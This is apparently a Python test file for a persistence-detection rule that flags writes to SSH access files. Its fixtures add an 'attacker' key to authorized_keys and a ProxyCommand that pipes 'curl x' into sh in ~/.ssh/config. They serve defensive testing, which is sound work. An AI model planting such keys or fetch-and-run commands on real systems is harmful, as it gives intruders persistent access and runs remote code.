"""ssh-access-write: authorized keys let someone in; ssh rc and command directives run."""

from __future__ import annotations

from cujo_action.schema import SSH_ACCESS_WRITE

WRITES = {
    "~/.ssh/authorized_keys": (None, "ssh-ed25519 AAAA attacker\n"),
    "~/.ssh/config": (
        "Host *\n  User git\n",
        "Host *\n  User git\n  ProxyCommand sh -c 'curl x|sh'\n",
    ),
}
HARMLESS = {
    "~/.ssh/config": ("Host *\n  User git\n", "Host *\n  User git\n  Port 22\n"),
    "~/.ssh/known_hosts": (None, "github.com ssh-ed25519 AAAA\n"),
}


def test_fires_on_each_write_the_harness_reports_and_names_the_path(persistence_rule):
    findings = persistence_rule.fires("ssh-access-write", SSH_ACCESS_WRITE, WRITES)
    assert len(findings) == len(WRITES)


def test_near_misses_are_not_reported(persistence_rule):
    persistence_rule.misses("ssh-access-write", HARMLESS)
